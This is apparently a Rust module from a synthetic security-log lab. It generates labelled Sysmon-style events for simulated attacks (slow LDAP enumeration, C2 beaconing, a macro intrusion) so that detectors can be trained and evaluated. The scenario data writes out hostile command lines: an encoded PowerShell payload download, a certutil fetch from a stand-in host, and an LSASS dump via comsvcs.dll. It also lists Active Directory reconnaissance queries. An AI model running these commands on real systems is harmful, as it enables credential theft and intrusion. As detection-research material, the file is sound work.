//! The injected attacks, one function per scenario, and their ground truth.
//!
//! Scenario events are few (thousands, scaled by the intensity knob, independent of the
//! lab's size) and all share one process table, so they are generated once for the whole
//! lab, sorted, and merged into each day's file when it is written. Each scenario reseeds the
//! RNG from the lab seed and its own tag, so switching one off leaves the others unchanged.
//! The hard negatives live in `negatives.rs` and use the same helpers.

use rand::Rng;
use rand::seq::SliceRandom;

use super::Scenario;
use super::clock::{DAY, HOUR, MIN, SEC, weekday};
use super::labels::{Draft, Entity, Label};
use super::model::{Builder, Kind, NONE, Text};
use super::topology::{SYSTEM, Slot, format_guid};

/// Where and when the lab runs, as the scenarios need it.
#[derive(Clone, Debug)]
pub(crate) struct Plan {
    pub start_ns: i64,
    pub days: u32,
    pub scenarios: Vec<(Scenario, f64)>,
    pub hard_negatives: bool,
    pub profiles: Vec<super::LabProfile>,
}

/// Scenario generation state and helpers shared with the hard negatives.
pub(crate) struct S<'t, 'p> {
    pub b: Builder<'t>,
    pub plan: &'p Plan,
    pub drafts: Vec<Draft>,
    /// Workstations in a seed-dependent order; scenarios take their hosts from here.
    pub ws: Vec<usize>,
}

impl S<'_, '_> {
    /// Midnight of day `d`.
    pub(crate) fn day_start(&self, d: u32) -> i64 {
        self.plan.start_ns + i64::from(d) * DAY
    }

    /// The first weekday on or after day `d` within the lab (or `d` itself if none).
    pub(crate) fn weekday_from(&self, d: u32) -> u32 {
        let first_day = self.plan.start_ns.div_euclid(DAY);
        (d..self.plan.days)
            .find(|&x| weekday(first_day + i64::from(x)) < 5)
            .unwrap_or(d.min(self.plan.days - 1))
    }

    /// Latest time an event may have.
    pub(crate) fn lab_end(&self) -> i64 {
        self.day_start(self.plan.days) - SEC
    }

    /// The `k`-th scenario workstation.
    pub(crate) fn ws(&self, k: usize) -> usize {
        self.ws[k % self.ws.len()]
    }

    /// Records the events emitted since `before` into the draft's time range and count, and
    /// keeps the draft.
    pub(crate) fn close(&mut self, mut draft: Draft, before: usize) {
        let evs = &self.b.evs[before..];
        let g = &mut draft.group;
        g.events += evs.len() as u64;
        for e in evs {
            g.start_ns = g.start_ns.min(e.ts);
            g.end_ns = g.end_ns.max(e.ts);
        }
        self.drafts.push(draft);
    }

    /// The explorer.exe of a workstation's user on day `d`, as a parent record.
    pub(crate) fn explorer(&mut self, host: usize, d: u32) -> u32 {
        let topo = self.b.topo;
        let user = topo.hosts[host].user.unwrap_or(SYSTEM);
        let ds = self.day_start(d);
        let p = self.b.record(
            host,
            user,
            Text::Static(r"C:\Windows\explorer.exe"),
            Text::Static(r"C:\Windows\Explorer.EXE"),
            Text::Static(r"C:\Windows\system32\"),
            NONE,
            ds,
        );
        self.b.ctx.procs[p as usize].guid = topo.explorer_guid(host, ds);
        p
    }

    /// Spawns a process with arena strings; returns its index.
    #[allow(clippy::too_many_arguments)] // One argument per Sysmon field.
    pub(crate) fn spawn(
        &mut self,
        host: usize,
        user: u16,
        image: &str,
        cmd: &str,
        cwd: &str,
        parent: u32,
        ts: i64,
    ) -> u32 {
        let (i, c, w) = (self.b.text(image), self.b.text(cmd), self.b.text(cwd));
        self.b.spawn(host, user, i, c, w, parent, ts)
    }

    /// A file-create event with an arena path.
    pub(crate) fn file(&mut self, ts: i64, pid: u32, path: &str) {
        let t = self.b.text(path);
        self.b.file(ts, pid, t);
    }

    /// The process's GUID as Sysmon prints it.
    pub(crate) fn guid(&self, pid: u32) -> String {
        let mut s = String::with_capacity(38);
        let _ = format_guid(&mut s, self.b.ctx.procs[pid as usize].guid);
        s
    }

    /// The process as a labelled entity.
    pub(crate) fn process_entity(&self, pid: u32) -> Entity {
        let p = &self.b.ctx.procs[pid as usize];
        Entity::Process {
            processguid: self.guid(pid),
            host: self.b.topo.hosts[usize::from(p.host)].fqdn.clone(),
            image: self.b.ctx.text(p.image).to_string(),
            commandline: self.b.ctx.text(p.cmd).to_string(),
        }
    }

    /// Milliseconds in nanoseconds, drawn uniformly from `lo..hi`.
    pub(crate) fn ms(&mut self, lo: i64, hi: i64) -> i64 {
        self.b.rng.random_range(lo..hi) * 1_000_000
    }

    pub(super) fn ad_enum(&mut self, intensity: f64) {
        let topo = self.b.topo;
        let host = self.ws(2);
        let user = topo.hosts[host].user.unwrap_or(topo.persons.start);
        let sam = topo.users[user as usize].sam.clone();
        let mut draft = Draft::new(
            Scenario::AdEnum.name(),
            "slow-ldap-enumeration",
            Label::Malicious,
            &["ad-enum-kmeans", "ad-enum-autoencoder"],
            &[
                "T1087.002",
                "T1069.002",
                "T1482",
                "T1018",
                "T1615",
                "T1558.003",
            ],
            format!(
                "account {sam} (workstation {}) enumerates users, groups, admin groups, SPNs, \
                 computers, trusts, GPOs and ACLs over LDAP in a few short sessions a day for \
                 about five days",
                topo.hosts[host].name
            ),
        );
        let before = self.b.evs.len();
        let first = self.plan.days / 4;
        let span = 5.min(self.plan.days - first);
        let mut queries: Vec<&str> = ENUM_QUERIES.to_vec();
        queries.shuffle(&mut self.b.rng);
        let mut next = 0;
        let sessions = ((3.0 * intensity).round() as u32).max(1);
        for d in first..first + span {
            let ds = self.day_start(d);
            for _ in 0..sessions {
                let mut t = ds + self.b.rng.random_range(9 * HOUR..16 * HOUR);
                for _ in 0..self.b.rng.random_range(3..=8) {
                    let q = self.b.text(queries[next % queries.len()]);
                    next += 1;
                    self.b.ldap(t, user, q);
                    draft.ldap.push((sam.clone(), t));
                    t += self.b.rng.random_range(10..90) * SEC;
                }
            }
        }
        self.close(draft, before);
    }

    pub(super) fn c2_beacon(&mut self, intensity: f64) {
        let topo = self.b.topo;
        let days = self.plan.days;
        let implants = [
            (
                "fast-implant",
                self.ws(0),
                days / 2,
                10 * HOUR,
                12.0 * HOUR as f64,
                60.0,
                0.2,
                0usize,
            ),
            (
                "slow-implant",
                self.ws(1),
                days / 3,
                14 * HOUR,
                48.0 * HOUR as f64,
                300.0,
                0.5,
                1usize,
            ),
        ];
        for (name, host, day, hour, duration, sleep, jitter, site) in implants {
            let before = self.b.evs.len();
            let (c2_name, c2_ip) = super::topology::ATTACKER_SITES[site];
            let c2 = topo.site(c2_name);
            let start = self.day_start(day) + hour + self.ms(0, 3_600_000);
            let end =
                (start + (duration * intensity.max(0.05)) as i64).min(self.lab_end());
            let parent = self.b.long_lived(host, Slot::Schedule);
            let user = topo.hosts[host].user.unwrap_or(SYSTEM);
            let pid = if site == 0 {
                self.spawn(
                    host,
                    SYSTEM,
                    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                    r"powershell.exe -ExecutionPolicy Bypass -File C:\Users\Public\health.ps1",
                    r"C:\Windows\system32\",
                    parent,
                    start,
                )
            } else {
                self.spawn(
                    host,
                    user,
                    r"C:\ProgramData\OneDriveUpdate\OneDriveSync.exe",
                    r#""C:\ProgramData\OneDriveUpdate\OneDriveSync.exe" -k sync"#,
                    r"C:\ProgramData\OneDriveUpdate\",
                    parent,
                    start,
                )
            };
            let mut t = self.b.loads(pid, start, if site == 0 { 24 } else { 12 });
            t += 2 * SEC;
            while t < end {
                let at = t - self.ms(20, 80);
                self.b.dns(at, pid, c2.dns);
                self.b.net_out(t, pid, c2.https);
                let u: f64 = self.b.rng.random_range(-1.0..=1.0);
                t += (sleep * (1.0 + jitter * u) * SEC as f64) as i64;
            }
            let guid = self.guid(pid);
            let mut draft = Draft::new(
                Scenario::C2Beacon.name(),
                name,
                Label::Malicious,
                &["c2-beacon"],
                &["T1071.001", "T1059.001", "T1053.005"],
                format!(
                    "implant on {} started by svchost.exe (Task Scheduler) calls {c2_name} \
                     ({c2_ip}:443) every {sleep} s with {}% jitter, resolving the name first",
                    topo.hosts[host].name,
                    (jitter * 100.0) as u32
                ),
            );
            draft.group.entities.push(self.process_entity(pid));
            draft.group.entities.push(Entity::ProcessDestination {
                processguid: guid,
                destinationip: c2_ip.to_string(),
                destinationport: "443".to_string(),
            });
            self.close(draft, before);
        }
    }

    pub(super) fn process_anomaly(&mut self, intensity: f64) {
        let incidents = ((2.0 * intensity).round() as u32).max(1);
        for i in 0..incidents {
            let host = self.ws(3 + i as usize);
            let day = self.weekday_from(self.plan.days * (2 * i + 1) / (2 * incidents));
            let before = self.b.evs.len();
            let mut draft = Draft::new(
                Scenario::ProcessAnomaly.name(),
                &format!("macro-intrusion-{}", i + 1),
                Label::Malicious,
                &["process-anomaly"],
                &[
                    "T1204.002",
                    "T1059.001",
                    "T1027",
                    "T1218.011",
                    "T1105",
                    "T1003.001",
                ],
                format!(
                    "on {}: a macro document starts cmd and encoded PowerShell, which drops a \
                     DLL run by rundll32 from the temp folder; certutil downloads a tool; \
                     rundll32 comsvcs.dll MiniDump dumps LSASS",
                    self.b.topo.hosts[host].name
                ),
            );
            for pid in self.intrusion(host, day) {
                draft.group.entities.push(self.process_entity(pid));
            }
            self.close(draft, before);
        }
    }

    /// One macro intrusion; returns the malicious processes.
    pub(crate) fn intrusion(&mut self, host: usize, day: u32) -> Vec<u32> {
        let topo = self.b.topo;
        let user = topo.hosts[host].user.unwrap_or(SYSTEM);
        let sam = topo.users[user as usize].sam.clone();
        let home = format!(r"C:\Users\{sam}");
        let explorer = self.explorer(host, day);
        let t0 = self.day_start(day) + self.b.rng.random_range(10 * HOUR..14 * HOUR);
        let word = self.spawn(
            host,
            user,
            r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
            &format!(
                r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "{home}\Downloads\Invoice_0423.docm" /o """#
            ),
            &format!(r"{home}\Downloads\"),
            explorer,
            t0,
        );
        let mut t = self.b.loads(word, t0, 55);
        self.file(
            t + SEC,
            word,
            &format!(r"{home}\AppData\Local\Temp\~$voice_0423.docm"),
        );
        t += 40 * SEC;
        let macro_site = topo.site(super::topology::ATTACKER_SITES[3].0);
        let script = format!(
            "$c=New-Object Net.WebClient;$c.DownloadFile('https://{}/s/u.dll','{home}\\AppData\\Local\\Temp\\upd4821.dll')",
            super::topology::ATTACKER_SITES[3].0
        );
        let enc = encode_command(&script);
        let cmd = self.spawn(
            host,
            user,
            r"C:\Windows\System32\cmd.exe",
            &format!(
                r#""C:\Windows\System32\cmd.exe" /c powershell -nop -w hidden -enc {enc}"#
            ),
            &format!(r"{home}\Downloads\"),
            word,
            t,
        );
        t = self.b.loads(cmd, t, 2);
        t += self.ms(20, 200);
        let ps = self.spawn(
            host,
            user,
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            &format!("powershell  -nop -w hidden -enc {enc}"),
            &format!(r"{home}\Downloads\"),
            cmd,
            t,
        );
        t = self.b.loads(ps, t, 9);
        t += self.ms(300, 900);
        self.b.dns(t, ps, macro_site.dns);
        t += self.ms(20, 60);
        self.b.net_out(t, ps, macro_site.https);
        t += self.ms(400, 2_000);
        let dll = format!(r"{home}\AppData\Local\Temp\upd4821.dll");
        self.file(t, ps, &dll);
        t += self.ms(100, 500);
        self.b.net_out(t, ps, macro_site.https);
        t += 2 * SEC;
        let rundll = self.spawn(
            host,
            user,
            r"C:\Windows\System32\rundll32.exe",
            &format!(r#""C:\Windows\System32\rundll32.exe" {dll},DllRegisterServer"#),
            &format!(r"{home}\Downloads\"),
            ps,
            t,
        );
        t = self.b.loads(rundll, t, 4);
        let beacon = topo.site(super::topology::ATTACKER_SITES[4].0);
        let at = t + self.ms(50, 300);
        self.b.push(Kind::PipeCreated, at, rundll);
        t += SEC;
        self.b.dns(t, rundll, beacon.dns);
        for _ in 0..3 {
            t += self.ms(30, 5_000);
            self.b.net_out(t, rundll, beacon.https);
        }
        self.b.push(Kind::PipeConnected, t + SEC, rundll);
        // Twenty minutes later: download a tool with certutil through a second shell.
        t += 20 * MIN + self.ms(0, 300_000);
        let cmd2 = self.spawn(
            host,
            user,
            r"C:\Windows\System32\cmd.exe",
            r#"C:\Windows\system32\cmd.exe /c "certutil.exe -urlcache -split -f http://files.dl-share.example.com/t.txt C:\Users\Public\t.exe""#,
            &format!(r"{home}\Downloads\"),
            rundll,
            t,
        );
        t = self.b.loads(cmd2, t, 2) + self.ms(10, 100);
        let certutil = self.spawn(
            host,
            user,
            r"C:\Windows\System32\certutil.exe",
            r"certutil.exe  -urlcache -split -f http://files.dl-share.example.com/t.txt C:\Users\Public\t.exe",
            &format!(r"{home}\Downloads\"),
            cmd2,
            t,
        );
        let drop = topo.site(super::topology::ATTACKER_SITES[2].0);
        t = self.b.loads(certutil, t, 6) + self.ms(100, 400);
        self.b.dns(t, certutil, drop.dns);
        t += self.ms(10, 50);
        self.b.net_out(t, certutil, drop.http);
        t += self.ms(200, 900);
        let cache: u32 = self.b.rng.random();
        self.file(
            t,
            certutil,
            &format!(
                r"{home}\AppData\LocalLow\Microsoft\CryptnetUrlCache\Content\{cache:08X}"
            ),
        );
        let at = t + self.ms(5, 50);
        self.file(at, certutil, r"C:\Users\Public\t.exe");
        // Forty minutes later: dump LSASS with comsvcs.dll.
        t += 40 * MIN + self.ms(0, 600_000);
        let dump = self.spawn(
            host,
            user,
            r"C:\Windows\System32\rundll32.exe",
            r"C:\Windows\System32\rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 652 C:\Windows\Temp\debug.bin full",
            r"C:\Windows\Temp\",
            rundll,
            t,
        );
        t = self.b.loads(dump, t, 5) + self.ms(300, 1_500);
        self.file(t, dump, r"C:\Windows\Temp\debug.bin");
        vec![cmd, ps, rundll, cmd2, certutil, dump]
    }
}

/// PowerShell's `-EncodedCommand` form: base64 of UTF-16LE.
pub(crate) fn encode_command(script: &str) -> String {
    const ALPHABET: &[u8; 64] =
        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
    for chunk in bytes.chunks(3) {
        let n = (u32::from(chunk[0]) << 16)
            | (u32::from(*chunk.get(1).unwrap_or(&0)) << 8)
            | u32::from(*chunk.get(2).unwrap_or(&0));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(ALPHABET[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// What the enumerating account asks the directory.
const ENUM_QUERIES: [&str; 20] = [
    "(&(objectCategory=person)(objectClass=user))",
    "(samAccountType=805306368)",
    "(objectClass=group)",
    "(&(objectClass=group)(adminCount=1))",
    "(|(cn=Domain Admins)(cn=Enterprise Admins)(cn=Administrators)(cn=Schema Admins))",
    "(memberOf:1.2.840.113556.1.4.1941:=CN=Domain Admins,CN=Users,DC=contoso,DC=local)",
    "(&(samAccountType=805306368)(servicePrincipalName=*))",
    "(&(objectCategory=person)(objectClass=user)(userAccountControl:1.2.840.113556.1.4.803:=4194304))",
    "(objectCategory=computer)",
    "(&(objectCategory=computer)(operatingSystem=*server*))",
    "(userAccountControl:1.2.840.113556.1.4.803:=524288)",
    "(objectClass=trustedDomain)",
    "(objectClass=groupPolicyContainer)",
    "(gpLink=*)",
    "(objectClass=organizationalUnit)",
    "(|(samAccountType=805306368)(samAccountType=805306369)(objectclass=group)(objectclass=domain)(objectclass=organizationalUnit)(objectclass=groupPolicyContainer))",
    "(&(objectClass=user)(adminCount=1))",
    "(ms-MCS-AdmPwd=*)",
    "(objectClass=domain)",
    "(msDS-AllowedToDelegateTo=*)",
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::topology::Topology;

    #[test]
    fn encoded_command_matches_powershell() {
        // [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes('dir'))
        assert_eq!(encode_command("dir"), "ZABpAHIA");
        assert_eq!(encode_command("ab"), "YQBiAA==");
    }

    fn plan(days: u32) -> Plan {
        Plan {
            start_ns: super::super::clock::days_from_civil(2024, 3, 4) * DAY,
            days,
            scenarios: Scenario::ALL.iter().map(|&s| (s, 1.0)).collect(),
            hard_negatives: true,
            profiles: Vec::new(),
        }
    }

    #[test]
    fn scenarios_stay_inside_the_lab_and_are_sorted() {
        let p = plan(7);
        let topo = Topology::new(11, 5, p.start_ns / SEC);
        let out = super::super::plan::build(&topo, &p);
        assert!(out.evs.windows(2).all(|w| w[0].ts <= w[1].ts));
        let end = p.start_ns + 7 * DAY;
        assert!(out.evs.iter().all(|e| e.ts >= p.start_ns && e.ts < end));
        assert_eq!(out.counts.len(), 4);
        let total: u64 =
            out.counts.iter().map(|c| c.1).sum::<u64>() + out.hard_negative_events;
        assert_eq!(total, out.evs.len() as u64);
        assert!(
            out.drafts
                .iter()
                .all(|d| !d.group.entities.is_empty() || !d.ldap.is_empty())
        );
    }

    #[test]
    fn beacon_gaps_stay_in_the_jitter_band() {
        let p = plan(4);
        let topo = Topology::new(5, 5, p.start_ns / SEC);
        let out = super::super::plan::build(&topo, &p);
        let draft = out
            .drafts
            .iter()
            .find(|d| d.group.name == "fast-implant")
            .expect("fast implant");
        let Some(Entity::Process { processguid, .. }) = draft.group.entities.first()
        else {
            panic!("first entity must be the process");
        };
        let mut times = Vec::new();
        for e in out.evs.iter().filter(|e| e.kind == Kind::NetworkConnect) {
            let mut g = String::new();
            let _ = format_guid(&mut g, out.ctx.procs[e.proc as usize].guid);
            if &g == processguid {
                times.push(e.ts);
            }
        }
        assert!(times.len() > 500, "{}", times.len());
        for w in times.windows(2) {
            let gap = (w[1] - w[0]) as f64 / SEC as f64;
            assert!((48.0..=72.0).contains(&gap), "gap {gap}");
        }
    }
}
